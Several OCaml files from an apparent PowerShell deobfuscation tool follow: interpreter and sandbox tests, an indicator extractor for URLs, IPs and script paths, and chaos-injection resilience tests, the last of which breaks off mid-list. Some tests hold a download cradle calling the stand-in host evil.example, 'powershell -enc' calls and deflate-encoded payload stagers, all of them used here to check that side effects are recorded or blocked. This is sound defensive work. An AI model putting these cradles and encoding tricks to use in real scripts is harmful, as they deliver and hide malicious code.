  check_i "enc" 25 (eval_int ("powershell -enc " ^ b64));
  check_i "autocompleted param" 25 (eval_int ("powershell -EnCoDeDCommand " ^ b64));
  check_i "command param" 12 (eval_int "powershell -Command '6 + 6'")

let test_functions () =
  check_i "define and call" 9 (eval_int "function add($a, $b) { return $a + $b }; add 4 5");
  check_i "args array" 3 (eval_int "function n { $args.Count }; n 1 2 3");
  check_s "scriptblock invoke" "hi" (eval_str "$sb = { 'hi' }; $sb.Invoke()");
  check_i "scriptblock create" 5 (eval_int "[scriptblock]::Create('2 + 3').Invoke()")

let test_control_flow_eval () =
  check_s "if else" "b" (eval_str "if (1 -gt 2) { 'a' } else { 'b' }");
  check_i "while" 10 (eval_int "$i = 0; while ($i -lt 10) { $i++ }; $i");
  check_s "foreach stmt" "abc" (eval_str "$out = ''; foreach ($c in 'a','b','c') { $out += $c }; $out");
  check_i "for" 6 (eval_int "$s = 0; for ($i = 1; $i -le 3; $i++) { $s += $i }; $s");
  check_s "switch" "two" (eval_str "switch (2) { 1 { 'one' } 2 { 'two' } default { 'other' } }");
  check_s "try catch" "caught" (eval_str "try { throw 'x' } catch { 'caught' }");
  check_s "break" "12" (eval_str "$o=''; foreach ($i in 1..9) { if ($i -gt 2) { break }; $o += $i }; $o");
  check_s "continue" "13" (eval_str "$o=''; foreach ($i in 1..3) { if ($i -eq 2) { continue }; $o += $i }; $o")

let test_securestring_marshal () =
  check_s "plaintext roundtrip" "secret"
    (eval_str
       "[Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR(('secret' | ConvertTo-SecureString -AsPlainText -Force)))");
  check_s "key blob roundtrip" "payload"
    (eval_str
       "$blob = ('payload' | ConvertTo-SecureString -AsPlainText -Force | ConvertFrom-SecureString); [Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR((ConvertTo-SecureString -String $blob -Key (0..31))))")

let test_deflate_stream () =
  let payload = "write-output 'inflated'" in
  let b64 = Encoding.Base64.encode (Encoding.Deflate.deflate payload) in
  check_s "deflate pipeline" payload
    (eval_str
       (Printf.sprintf
          "(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('%s'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"
          b64))

let test_side_effects_blocked_in_recovery () =
  check_b "download blocked" true
    (String.length (eval_err "(New-Object Net.WebClient).DownloadString('http://x')") > 0);
  check_b "sleep blocked" true (String.length (eval_err "Start-Sleep 5") > 0);
  check_b "process blocked" true (String.length (eval_err "Start-Process calc") > 0)

let test_side_effects_recorded_in_sandbox () =
  let env = Pseval.Env.create ~mode:Pseval.Env.Sandbox () in
  (match
     Pseval.Interp.run_script env
       "(New-Object Net.WebClient).DownloadString('http://evil.example/x') | Out-Null\nStart-Sleep 1"
   with
  | Ok _ -> ()
  | Error e -> Alcotest.fail e);
  let events = List.map Pseval.Env.event_to_string (Pseval.Env.events env) in
  check_b "http event" true
    (List.mem "http-get:http://evil.example/x" events);
  check_b "sleep event" true (List.mem "sleep:1" events)

let test_step_budget () =
  let limits = { Pseval.Env.default_limits with Pseval.Env.max_steps = 1000 } in
  let env = Pseval.Env.create ~limits () in
  check_b "infinite loop bounded" true
    (match Pseval.Interp.run_script env "while ($true) { $i++ }" with
    | Error _ -> true
    | Ok _ -> false)

let test_output_semantics () =
  check_b "assignment silent" true (eval "$x = 5" = Value.Null);
  check_s "multiple outputs collect" "1 2"
    (Value.to_string (eval "1; 2"));
  check_s "write-output passthrough" "7" (eval_str "write-output 7");
  check_b "out-null swallows" true (eval "5 | out-null" = Value.Null)

let test_multiple_assignment () =
  check_s "two targets" "ab" (eval_str "$a, $b = 'a', 'b'; $a + $b")

let test_named_blocks () =
  check_s "begin/process/end" "1 2 done"
    (eval_str
       "function f { begin { $n = 0 } process { $_ } end { 'done' } }\n(1,2 | f) -join ' '")

let test_split_count () =
  check_s "split with count" "a|b,c" (eval_str "('a,b,c' -split ',',2) -join '|'");
  check_s "split unlimited" "a|b|c" (eval_str "('a,b,c' -split ',') -join '|'")

let test_math_statics () =
  check_i "round" 4 (eval_int "[math]::Round(3.7)");
  check_i "min" 2 (eval_int "[math]::Min(2, 9)");
  check_i "max" 9 (eval_int "[math]::Max(2, 9)")

let test_url_decode_statics () =
  check_s "unescape" "write-host hi"
    (eval_str "[uri]::UnescapeDataString('write%2Dhost%20hi')");
  check_s "urldecode" "a b" (eval_str "[Net.WebUtility]::UrlDecode('a%20b')");
  check_s "escape roundtrip" "x&y"
    (eval_str "[uri]::UnescapeDataString([uri]::EscapeDataString('x&y'))")

let suite =
  [
    ("concat coercions", `Quick, test_concat);
    ("arithmetic", `Quick, test_arithmetic);
    ("hex string conversion", `Quick, test_hex_string_conversion);
    ("format operator", `Quick, test_format_operator);
    ("range and index", `Quick, test_range_and_index);
    ("split/join", `Quick, test_split_join);
    ("replace ops", `Quick, test_replace_ops);
    ("comparisons", `Quick, test_comparisons);
    ("logical shortcircuit", `Quick, test_logical_shortcircuit);
    ("bitwise", `Quick, test_bitwise);
    ("variables and scope", `Quick, test_variables_and_scope);
    ("expandable strings", `Quick, test_expandable_strings);
    ("casts", `Quick, test_casts);
    ("statics", `Quick, test_statics);
    ("string methods", `Quick, test_string_methods);
    ("pipelines", `Quick, test_pipeline_foreach);
    ("invoke-expression", `Quick, test_iex);
    ("powershell -enc", `Quick, test_powershell_enc);
    ("functions", `Quick, test_functions);
    ("control flow", `Quick, test_control_flow_eval);
    ("securestring marshal", `Quick, test_securestring_marshal);
    ("deflate stream", `Quick, test_deflate_stream);
    ("recovery blocks side effects", `Quick, test_side_effects_blocked_in_recovery);
    ("sandbox records side effects", `Quick, test_side_effects_recorded_in_sandbox);
    ("step budget", `Quick, test_step_budget);
    ("output semantics", `Quick, test_output_semantics);
    ("multiple assignment", `Quick, test_multiple_assignment);
    ("named blocks", `Quick, test_named_blocks);
    ("split count", `Quick, test_split_count);
    ("math statics", `Quick, test_math_statics);
    ("url decode statics", `Quick, test_url_decode_statics);
  ]
