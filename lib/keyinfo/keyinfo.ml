(** Key-information extraction (paper §IV-C2, Fig 5).

    Four types of indicators valuable to analysts: [.ps1] script paths,
    [powershell] child invocations, URLs, and IP addresses.  Deobfuscation
    effectiveness is measured by how many of these become visible in a
    tool's output. *)

open Pscommon

type t = {
  ps1_files : string list;
  powershell_commands : string list;
  urls : string list;
  ips : string list;
}

(* compiled eagerly at module init: racing Lazy.force from parallel batch
   domains is unsafe, and the compiled automata are shared read-only *)
let url_re =
  Regexen.Regex.compile {|https?://[a-z0-9\.\-]+(:\d+)?[a-z0-9\./\-_%\?=&\+~]*|}

let ip_re = Regexen.Regex.compile {|\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b|}
let ps1_re = Regexen.Regex.compile {|[a-z0-9_\-\\/:\.\$%]+\.ps1\b|}
let powershell_re = Regexen.Regex.compile {|\bpowershell(\.exe)?\b|}

let matches_of re src =
  List.map (fun m -> Regexen.Regex.matched_text src m) (Regexen.Regex.find_all re src)
  |> List.sort_uniq Strcase.compare

let valid_ip s =
  String.split_on_char '.' s
  |> List.for_all (fun octet ->
         match int_of_string_opt octet with
         | Some n -> n >= 0 && n <= 255
         | None -> false)

let extract src =
  let urls = matches_of url_re src in
  let ips = List.filter valid_ip (matches_of ip_re src) in
  (* IPs inside extracted URLs still count as one indicator each, as the
     paper counts them separately *)
  let ps1_files = matches_of ps1_re src in
  let powershell_commands = matches_of powershell_re src in
  { ps1_files; powershell_commands; urls; ips }

let count t =
  List.length t.ps1_files + List.length t.powershell_commands + List.length t.urls
  + List.length t.ips

let empty = { ps1_files = []; powershell_commands = []; urls = []; ips = [] }

(** Indicators of [sub] that are present in [super] (used to compare a
    tool's output against the manual ground truth). *)
let intersection ~ground_truth t =
  let inter a b = List.filter (fun x -> List.exists (Strcase.equal x) b) a in
  {
    ps1_files = inter ground_truth.ps1_files t.ps1_files;
    powershell_commands = inter ground_truth.powershell_commands t.powershell_commands;
    urls = inter ground_truth.urls t.urls;
    ips = inter ground_truth.ips t.ips;
  }

let pp fmt t =
  Format.fprintf fmt "ps1:%d powershell:%d urls:%d ips:%d"
    (List.length t.ps1_files)
    (List.length t.powershell_commands)
    (List.length t.urls) (List.length t.ips)
