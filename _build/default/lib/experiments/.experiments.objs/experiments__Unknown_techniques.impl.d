lib/experiments/unknown_techniques.ml: Baselines Char List Printf Pscommon Strcase String
