(* Tests for the resilience layer: statement-boundary segmentation and
   partial-parse recovery, seeded chaos injection with its mutation fuzzer,
   and the degraded-mode retry ladder.  The standing contracts: no input —
   truncated, binary-prefixed, fault-injected — ever crashes a run; every
   file yields a classified outcome; and injection is a pure function of
   (seed, scope, probe order), so outputs replay byte-identically. *)

open Pscommon
module Seg = Psparse.Segment

let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)
let check_s = Alcotest.(check string)

(* every chaos test restores the disabled state, even on failure: the
   config is process-global and must not leak into later suites *)
let with_chaos cfg f =
  Chaos.set (Some cfg);
  Fun.protect ~finally:(fun () -> Chaos.set None) f

let cfg ?(rate = 0.0) ?(site_rates = []) seed = { Chaos.seed; rate; site_rates }

let with_temp_dir f =
  let dir =
    Filename.concat (Filename.get_temp_dir_name ())
      (Printf.sprintf "resilience-%d" (Unix.getpid ()))
  in
  let rec rm path =
    if Sys.is_directory path then begin
      Array.iter (fun n -> rm (Filename.concat path n)) (Sys.readdir path);
      Sys.rmdir path
    end
    else Sys.remove path
  in
  if Sys.file_exists dir then rm dir;
  Sys.mkdir dir 0o755;
  Fun.protect ~finally:(fun () -> if Sys.file_exists dir then rm dir) (fun () -> f dir)

let write_file path content =
  Out_channel.with_open_bin path (fun oc -> Out_channel.output_string oc content)

let read_file path = In_channel.with_open_bin path In_channel.input_all

(* ---------- segmentation ---------- *)

let test_segment_valid_single_region () =
  let src = "$a = 1\nWrite-Output $a\nif ($a) { $a + 1 }\n" in
  match Seg.segment src with
  | [ r ] ->
      check_b "single parseable region" true (r.Seg.kind = Seg.Parseable);
      check_i "covers whole input from 0" 0 r.Seg.start;
      check_i "covers whole input to end" (String.length src) r.Seg.stop
  | rs -> Alcotest.failf "expected one region, got %d" (List.length rs)

let test_segment_empty () = check_i "empty input, no regions" 0 (List.length (Seg.segment ""))

let regions_cover src regions =
  let rec walk pos = function
    | [] -> pos = String.length src
    | r -> (
        match r with
        | { Seg.start; stop; _ } :: rest -> start = pos && stop > start && walk stop rest
        | [] -> false)
  in
  walk 0 regions

let test_segment_covers_damaged_input () =
  let src = "$a = 'x'\nif (1) { broken\n$b = 2\n\255\254\000 blob \000\n$c = 3\n" in
  let regions = Seg.segment src in
  check_b "contiguous cover" true (regions_cover src regions);
  check_b "has a parseable region" true
    (List.exists (fun r -> r.Seg.kind = Seg.Parseable) regions);
  check_b "has a binary region" true
    (List.exists (fun r -> r.Seg.kind = Seg.Binary) regions)

let test_sync_points_respect_strings () =
  (* the ; and newline inside the double-quoted string are not boundaries *)
  let src = "$a = \"x;\ny\"; $b = 1\n" in
  let quote_open = String.index src '"' in
  let quote_close = String.rindex src '"' in
  List.iter
    (fun p ->
      check_b
        (Printf.sprintf "sync point %d outside the string literal" p)
        true
        (p <= quote_open || p > quote_close))
    (Seg.sync_points src)

let test_sync_points_unbalanced_closer_clamped () =
  (* a stray } must not swallow the rest of the file: depth clamps at 0 and
     the following newline is still a boundary *)
  let src = "}\n$a = 1\n$b = 2\n" in
  let pts = Seg.sync_points src in
  check_b "boundary after stray closer" true (List.mem 2 pts);
  check_b "boundary between statements" true (List.mem 9 pts)

(* ---------- partial-parse recovery in the engine ---------- *)

let concat_script = "$p = 'al' + 'pha'\nWrite-Output $p\n"

let test_truncated_tail_recovers () =
  (* a partial download: valid statements, then a statement cut mid-token *)
  let src = concat_script ^ "$q = ('be' + 'ta'\n" in
  let g = Deobf.Engine.run_guarded ~timeout_s:10.0 src in
  check_b "parse failure recorded" true
    (List.exists
       (fun (s : Deobf.Engine.failure_site) -> s.failure = Guard.Parse_failure)
       g.Deobf.Engine.failures);
  check_b "at least one region recovered" true (g.Deobf.Engine.regions_recovered >= 1);
  check_b "prefix deobfuscated" true
    (let out = g.Deobf.Engine.result.Deobf.Engine.output in
     let contains hay needle =
       let nh = String.length hay and nn = String.length needle in
       let rec at i = i + nn <= nh && (String.sub hay i nn = needle || at (i + 1)) in
       at 0
     in
     contains out "'alpha'");
  check_b "damaged tail passed through verbatim" true
    (let out = g.Deobf.Engine.result.Deobf.Engine.output in
     String.length out >= 18
     && String.sub out (String.length out - 18) 18 = "$q = ('be' + 'ta'\n")

let test_binary_prefix_recovers () =
  (* the unbalanced ( in the blob both breaks the whole-file parse and
     stresses the depth-insensitive refinement pass *)
  let blob = "\000\001\255\254(PE\000\000junk\000\n" in
  let src = blob ^ concat_script in
  let g = Deobf.Engine.run_guarded ~timeout_s:10.0 src in
  check_b "recovered past the blob" true (g.Deobf.Engine.regions_recovered >= 1);
  check_b "blob preserved verbatim" true
    (String.length g.Deobf.Engine.result.Deobf.Engine.output >= String.length blob
    && String.sub g.Deobf.Engine.result.Deobf.Engine.output 0 (String.length blob)
       = blob)

let test_mid_here_string_cut () =
  (* the here-string never terminates: its opener must not drag the valid
     prefix down with it *)
  let src = concat_script ^ "$h = @\"\npayload line\n" in
  let g = Deobf.Engine.run_guarded ~timeout_s:10.0 src in
  check_b "prefix recovered" true (g.Deobf.Engine.regions_recovered >= 1)

let test_valid_input_identical_with_partial_off () =
  (* partial recovery must be invisible on inputs that parse whole *)
  let src = "$a = 'x' + 'y'\nWrite-Output $a\n" in
  let on = Deobf.Engine.run_guarded ~timeout_s:10.0 src in
  let off =
    Deobf.Engine.run_guarded
      ~options:{ Deobf.Engine.default_options with partial = false }
      ~timeout_s:10.0 src
  in
  check_s "same output either way"
    off.Deobf.Engine.result.Deobf.Engine.output
    on.Deobf.Engine.result.Deobf.Engine.output;
  check_i "no regions on a valid file" 0 on.Deobf.Engine.regions_total

let test_partial_off_returns_unchanged () =
  let src = "if (1) { broken\n$b = 1 + 2\n" in
  let off =
    Deobf.Engine.run_guarded
      ~options:{ Deobf.Engine.default_options with partial = false }
      ~timeout_s:10.0 src
  in
  check_s "passthrough with partial off" src
    off.Deobf.Engine.result.Deobf.Engine.output

let test_recovery_fixpoint_stable () =
  (* re-running the engine on a partially recovered output changes nothing:
     recovered regions are already at their fixpoint, damage is verbatim *)
  let src = concat_script ^ "if (1) { broken\n$b = 1 + 2\n" in
  let once = Deobf.Engine.run_guarded ~timeout_s:10.0 src in
  let out1 = once.Deobf.Engine.result.Deobf.Engine.output in
  let twice = Deobf.Engine.run_guarded ~timeout_s:10.0 out1 in
  check_s "second pass is identity" out1
    twice.Deobf.Engine.result.Deobf.Engine.output

let test_truncated_majority_recovers () =
  (* the acceptance bar: truncating a small varied corpus at mid-file must
     leave a majority of the now-unparseable files partially recovered
     rather than passed through whole *)
  let sample i =
    Printf.sprintf
      "$a%d = 'p' + 'q%d'\nWrite-Output $a%d\n$s%d = \"lit%d\"\n$b%d = %d + 1\nWrite-Output ($b%d)\n"
      i i i i i i i i
  in
  let attempted = ref 0 and recovered = ref 0 in
  for i = 1 to 8 do
    let src = Chaos.Mutate.truncate_at 0.45 (sample i) in
    let g = Deobf.Engine.run_guarded ~timeout_s:10.0 src in
    if
      List.exists
        (fun (s : Deobf.Engine.failure_site) -> s.Deobf.Engine.phase = "parse")
        g.Deobf.Engine.failures
    then begin
      incr attempted;
      if g.Deobf.Engine.regions_recovered >= 1 then incr recovered
    end
  done;
  check_b "some truncations made files unparseable" true (!attempted >= 3);
  check_b
    (Printf.sprintf "majority recovered (%d of %d)" !recovered !attempted)
    true
    (2 * !recovered > !attempted)

(* ---------- chaos: determinism and containment ---------- *)

let test_probe_disabled_is_silent () =
  Chaos.set None;
  Chaos.reset_draws ();
  for _ = 1 to 1000 do
    Chaos.probe "anywhere"
  done;
  check_i "disabled probes draw nothing" 0 (Chaos.draws ())

let fault_trace seed =
  (* which of 100 scoped probe calls fire, and as what *)
  with_chaos (cfg ~rate:0.3 seed) (fun () ->
      Chaos.with_scope "trace" (fun () ->
          List.init 100 (fun i ->
              match Chaos.probe "site" with
              | () -> (i, "ok")
              | exception Chaos.Injected _ -> (i, "injected")
              | exception Guard.Deadline_exceeded -> (i, "deadline")
              | exception Stack_overflow -> (i, "stack")
              (* the memory fault is Guard's dedicated injected-OOM
                 exception, not the runtime's preallocated Out_of_memory *)
              | exception Guard.Injected_oom -> (i, "oom"))))

let test_chaos_deterministic_replay () =
  let a = fault_trace 11 in
  let b = fault_trace 11 in
  check_b "same seed, same faults" true (a = b);
  let c = fault_trace 12 in
  check_b "different seed, different faults" true (a <> c)

let test_chaos_faults_classified () =
  (* at rate 1.0 every probe fires; whatever it throws, Guard.protect must
     map it into the containment taxonomy *)
  with_chaos (cfg ~rate:1.0 21) (fun () ->
      Chaos.with_scope "classify" (fun () ->
          for _ = 1 to 50 do
            match Guard.protect (fun () -> Chaos.probe "site") with
            | Ok _ -> Alcotest.fail "probe at rate 1.0 did not fire"
            | Error
                ( Guard.Timeout | Guard.Stack_exhausted | Guard.Oom
                | Guard.Unexpected _ ) ->
                ()
            | Error f ->
                Alcotest.failf "unclassified fault %s" (Guard.failure_label f)
          done))

let test_chaos_engine_total () =
  (* injection at every engine-internal site: runs never escape, and every
     degradation comes back as a classified failure site *)
  let src = concat_script ^ "$z = [char]98 + 'x'\n" in
  List.iter
    (fun seed ->
      with_chaos
        (cfg seed
           ~site_rates:
             [ ("recover.piece", 0.5); ("interp.eval", 0.3); ("guard", 0.05) ])
        (fun () ->
          Chaos.with_scope "engine" (fun () ->
              let g = Deobf.Engine.run_guarded ~timeout_s:10.0 src in
              ignore g.Deobf.Engine.result.Deobf.Engine.output)))
    [ 1; 2; 3; 5; 8; 13 ]

let chaos_batch_sites =
  [ ("recover.piece", 0.4); ("interp.eval", 0.2); ("pool.task", 0.2);
    ("batch.read", 0.1); ("batch.write", 0.1) ]

let batch_corpus dir =
  let files =
    [ ("good.ps1", "$a = 'x' + 'y'\nWrite-Output $a\n");
      ("frag.ps1", "$a = 'he' + 'llo'\nif (1) { broken\n$b = 1 + 2\n");
      ("pieces.ps1", "$p = ('a' + 'b') + ('c' + 'd')\nWrite-Output $p\n");
      ("blob.bin", "\000\001\002\255binary\000\n") ]
  in
  List.map
    (fun (name, src) ->
      let path = Filename.concat dir name in
      write_file path src;
      path)
    files

let test_chaos_batch_never_crashes () =
  (* several seeds, both sequential and parallel: every file always yields
     a classified outcome and the deobfuscated bytes are identical across
     jobs levels — injection is scheduling-independent *)
  with_temp_dir (fun dir ->
      let in_dir = Filename.concat dir "in" in
      Sys.mkdir in_dir 0o755;
      let files = batch_corpus in_dir in
      List.iter
        (fun seed ->
          with_chaos (cfg seed ~site_rates:chaos_batch_sites) (fun () ->
              let run jobs out =
                let summary =
                  Deobf.Batch.run_files ~timeout_s:10.0
                    ~out_dir:(Filename.concat dir out) ~jobs files
                in
                check_i
                  (Printf.sprintf "seed %d jobs %d: all files reported" seed jobs)
                  (List.length files) summary.Deobf.Batch.total;
                summary
              in
              let s1 = run 1 (Printf.sprintf "out1-%d" seed) in
              let s4 = run 4 (Printf.sprintf "out4-%d" seed) in
              List.iter2
                (fun (o1 : Deobf.Batch.outcome) (o4 : Deobf.Batch.outcome) ->
                  check_s "same file order" o1.Deobf.Batch.file o4.Deobf.Batch.file;
                  match (o1.Deobf.Batch.output_file, o4.Deobf.Batch.output_file) with
                  | Some p1, Some p4 ->
                      check_s
                        (Printf.sprintf "seed %d: %s byte-identical across jobs"
                           seed
                           (Filename.basename o1.Deobf.Batch.file))
                        (read_file p1) (read_file p4)
                  | None, None -> ()
                  | _ ->
                      Alcotest.failf "seed %d: %s written in one run only" seed
                        o1.Deobf.Batch.file)
                s1.Deobf.Batch.outcomes s4.Deobf.Batch.outcomes))
        [ 3; 7; 31 ])

let test_chaos_traced_untraced_identical () =
  with_temp_dir (fun dir ->
      let in_dir = Filename.concat dir "in" in
      Sys.mkdir in_dir 0o755;
      let files = batch_corpus in_dir in
      with_chaos (cfg 17 ~site_rates:chaos_batch_sites) (fun () ->
          let plain =
            Deobf.Batch.run_files ~timeout_s:10.0
              ~out_dir:(Filename.concat dir "plain") files
          in
          let traced =
            Deobf.Batch.run_files ~timeout_s:10.0
              ~out_dir:(Filename.concat dir "traced")
              ~trace_dir:(Filename.concat dir "traces") files
          in
          List.iter2
            (fun (a : Deobf.Batch.outcome) (b : Deobf.Batch.outcome) ->
              match (a.Deobf.Batch.output_file, b.Deobf.Batch.output_file) with
              | Some pa, Some pb ->
                  check_s "tracing does not perturb injection" (read_file pa)
                    (read_file pb)
              | None, None -> ()
              | _ -> Alcotest.fail "output written in one mode only")
            plain.Deobf.Batch.outcomes traced.Deobf.Batch.outcomes))

let test_chaos_task_fault_contained () =
  (* a fault in the pool worker itself, outside every engine guard, must
     come back as a "task" failure site, not abort the batch *)
  with_temp_dir (fun dir ->
      let path = Filename.concat dir "a.ps1" in
      write_file path "$a = 1\n";
      with_chaos (cfg 5 ~site_rates:[ ("pool.task", 1.0) ]) (fun () ->
          let o = Deobf.Batch.process_file ~timeout_s:5.0 path in
          check_b "task failure recorded" true
            (List.exists
               (fun (s : Deobf.Engine.failure_site) ->
                 s.Deobf.Engine.phase = "task")
               o.Deobf.Batch.failures)))

(* ---------- mutation fuzzer ---------- *)

let prop_mutate_total =
  QCheck.Test.make ~name:"resilience: mutations are total" ~count:200
    QCheck.(pair small_nat (string_of_size QCheck.Gen.(int_range 0 200)))
    (fun (seed, s) ->
      let rng = Rng.of_int seed in
      List.for_all
        (fun kind ->
          let out = Chaos.Mutate.apply rng kind s in
          (* usable output: a string, possibly empty only for empty-ish input *)
          String.length out >= 0)
        Chaos.Mutate.kinds)

let prop_mutated_scripts_contained =
  (* fuzz the engine with corrupted real-ish scripts: always a structured
     verdict, never an escape *)
  QCheck.Test.make ~name:"resilience: engine total on mutated scripts" ~count:60
    QCheck.(pair small_nat small_nat)
    (fun (seed, pick) ->
      let rng = Rng.of_int (seed + 1) in
      let base =
        "$u = 'http://example.com/a.ps1'\n$p = 'pay' + 'load'\nWrite-Output $p\n"
      in
      let kind = List.nth Chaos.Mutate.kinds (pick mod List.length Chaos.Mutate.kinds) in
      let src = Chaos.Mutate.apply rng kind base in
      let g = Deobf.Engine.run_guarded ~timeout_s:10.0 src in
      g.Deobf.Engine.failures = []
      || g.Deobf.Engine.regions_recovered >= 1
      || String.equal g.Deobf.Engine.result.Deobf.Engine.output src)

(* ---------- the retry ladder ---------- *)

let test_ladder_rungs () =
  check_b "full -> static" true (Deobf.Batch.weaker Deobf.Batch.Full = Some Deobf.Batch.Static);
  check_b "static -> token-only" true
    (Deobf.Batch.weaker Deobf.Batch.Static = Some Deobf.Batch.Token_only);
  check_b "token-only -> passthrough" true
    (Deobf.Batch.weaker Deobf.Batch.Token_only = Some Deobf.Batch.Passthrough);
  check_b "passthrough is the floor" true
    (Deobf.Batch.weaker Deobf.Batch.Passthrough = None);
  check_s "mode tags" "full,static,token-only,passthrough"
    (String.concat ","
       (List.map Deobf.Batch.mode_name
          [ Deobf.Batch.Full; Deobf.Batch.Static; Deobf.Batch.Token_only;
            Deobf.Batch.Passthrough ]))

let bomb_options =
  { Deobf.Engine.default_options with
    recovery =
      { Deobf.Recover.default_options with
        piece_step_budget = 1_000_000_000;
        piece_timeout_s = 60.0 } }

let test_ladder_degrades_decode_bomb () =
  (* the bomb times out at Full; Static (no piece execution) succeeds, so
     the ladder settles one rung down with the whole descent on record *)
  with_temp_dir (fun dir ->
      let path = Filename.concat dir "bomb.ps1" in
      write_file path "$x = $(while (1 -lt 2) { 1 }; 'done')\n";
      let o =
        Deobf.Batch.process_file ~options:bomb_options ~timeout_s:0.4 path
      in
      check_b "walked the ladder" true (o.Deobf.Batch.retries >= 1);
      check_b "settled below full strength" true
        (o.Deobf.Batch.degraded_mode <> Deobf.Batch.Full);
      check_b "timeout on record" true
        (List.exists
           (fun (s : Deobf.Engine.failure_site) -> s.failure = Guard.Timeout)
           o.Deobf.Batch.failures))

let test_ladder_parse_failure_no_retry () =
  (* no rung parses better than a stronger one: a pure parse failure stops
     the ladder at Full with partial recovery's best effort *)
  with_temp_dir (fun dir ->
      let path = Filename.concat dir "frag.ps1" in
      write_file path "$a = 'he' + 'llo'\nif (1) { broken\n";
      let o = Deobf.Batch.process_file ~timeout_s:5.0 path in
      check_i "no retries on parse failure" 0 o.Deobf.Batch.retries;
      check_b "stays at full strength" true
        (o.Deobf.Batch.degraded_mode = Deobf.Batch.Full);
      check_b "partial recovery still ran" true (o.Deobf.Batch.regions_total >= 1))

let test_clean_means_full_strength () =
  with_temp_dir (fun dir ->
      let good = Filename.concat dir "good.ps1" in
      let bomb = Filename.concat dir "bomb.ps1" in
      write_file good "$a = 'x' + 'y'\nWrite-Output $a\n";
      write_file bomb "$x = $(while (1 -lt 2) { 1 }; 'done')\n";
      let s =
        Deobf.Batch.run_files ~options:bomb_options ~timeout_s:0.4
          [ good; bomb ]
      in
      check_i "only the untouched file counts as clean" 1 s.Deobf.Batch.clean;
      check_i "the laddered file counts as degraded" 1 s.Deobf.Batch.degraded)

(* --- verify.diff chaos: faults inside the effect-log comparison --- *)

(* a forced comparison fault reads as a (spurious) divergence: the gate
   must drive bounded rollback to the input — never crash, never report
   equivalent *)
let test_chaos_verify_diff_forces_rollback () =
  with_chaos (cfg 9 ~site_rates:[ ("verify.diff", 1.0) ]) (fun () ->
      let src = "$a = ('te'+'st'); Write-Output $a" in
      (* forced faults make every rewrite look divergent, so reaching the
         all-rolled-back fixpoint needs one round per journaled rewrite —
         give the gate headroom beyond the production default *)
      let opts = { Deobf.Verify.default_opts with Deobf.Verify.max_rounds = 16 } in
      let g, o = Deobf.Verify.run_guarded ~opts src in
      (match o.Deobf.Verify.verdict with
      | Deobf.Verify.Rolled_back _ -> ()
      | v ->
          Alcotest.failf "expected rolled_back under forced diff faults, got %s"
            (Deobf.Verify.verdict_name v));
      (* every rewrite looks divergent, so the safe fixpoint is the input *)
      check_s "fully rolled back to input" src g.Deobf.Engine.result.Deobf.Engine.output)

(* intermittent comparison faults: any verdict is acceptable except a
   crash, and the output must always parse when the input does *)
let test_chaos_verify_diff_contained () =
  for seed = 1 to 6 do
    with_chaos (cfg seed ~site_rates:[ ("verify.diff", 0.4) ]) (fun () ->
        let src = "$x = 'a'\nforeach ($i in 1..3) { $x = $x + 'b' }\nWrite-Output $x" in
        let g, _ = Deobf.Verify.run_guarded src in
        check_b
          (Printf.sprintf "seed %d output parses" seed)
          true
          (match Psparse.Parser.parse g.Deobf.Engine.result.Deobf.Engine.output with
          | Ok _ -> true
          | Error _ -> false))
  done

(* the batch gate under verify.diff chaos: verdicts degrade, outputs and
   reports are still produced for every file *)
let test_chaos_verify_batch_contained () =
  with_temp_dir (fun dir ->
      let files =
        List.map
          (fun (name, body) ->
            let p = Filename.concat dir name in
            write_file p body;
            p)
          [ ("a.ps1", "$a = ('o'+'ne'); Write-Output $a\n");
            ("b.ps1", "Write-Output ('t'+'wo')\n") ]
      in
      let out_dir = Filename.concat dir "out" in
      with_chaos (cfg 13 ~site_rates:[ ("verify.diff", 1.0) ]) (fun () ->
          let s = Deobf.Batch.run_files ~timeout_s:20.0 ~out_dir ~verify:true files in
          check_i "all files processed" 2 s.Deobf.Batch.total;
          List.iter
            (fun (o : Deobf.Batch.outcome) ->
              check_b "outcome carries a verdict" true (o.Deobf.Batch.verdict <> None);
              check_b "output written" true
                (match o.Deobf.Batch.output_file with
                | Some f -> Sys.file_exists f
                | None -> false))
            s.Deobf.Batch.outcomes))

let suite =
  [
    Alcotest.test_case "segment: valid file is one region" `Quick
      test_segment_valid_single_region;
    Alcotest.test_case "segment: empty input" `Quick test_segment_empty;
    Alcotest.test_case "segment: damaged input covered" `Quick
      test_segment_covers_damaged_input;
    Alcotest.test_case "sync points respect strings" `Quick
      test_sync_points_respect_strings;
    Alcotest.test_case "sync points clamp stray closers" `Quick
      test_sync_points_unbalanced_closer_clamped;
    Alcotest.test_case "truncated tail recovers" `Quick test_truncated_tail_recovers;
    Alcotest.test_case "binary prefix recovers" `Quick test_binary_prefix_recovers;
    Alcotest.test_case "mid-here-string cut recovers" `Quick test_mid_here_string_cut;
    Alcotest.test_case "valid input identical with partial off" `Quick
      test_valid_input_identical_with_partial_off;
    Alcotest.test_case "partial off returns unchanged" `Quick
      test_partial_off_returns_unchanged;
    Alcotest.test_case "recovery fixpoint stable" `Quick test_recovery_fixpoint_stable;
    Alcotest.test_case "truncated majority recovers" `Quick
      test_truncated_majority_recovers;
    Alcotest.test_case "disabled probes silent" `Quick test_probe_disabled_is_silent;
    Alcotest.test_case "chaos deterministic replay" `Quick
      test_chaos_deterministic_replay;
    Alcotest.test_case "chaos faults classified" `Quick test_chaos_faults_classified;
    Alcotest.test_case "chaos engine total" `Quick test_chaos_engine_total;
    Alcotest.test_case "chaos batch never crashes" `Slow
      test_chaos_batch_never_crashes;
    Alcotest.test_case "chaos traced/untraced identical" `Quick
      test_chaos_traced_untraced_identical;
    Alcotest.test_case "chaos task fault contained" `Quick
      test_chaos_task_fault_contained;
    QCheck_alcotest.to_alcotest prop_mutate_total;
    QCheck_alcotest.to_alcotest prop_mutated_scripts_contained;
    Alcotest.test_case "ladder rungs" `Quick test_ladder_rungs;
    Alcotest.test_case "ladder degrades decode bomb" `Quick
      test_ladder_degrades_decode_bomb;
    Alcotest.test_case "ladder parse failure no retry" `Quick
      test_ladder_parse_failure_no_retry;
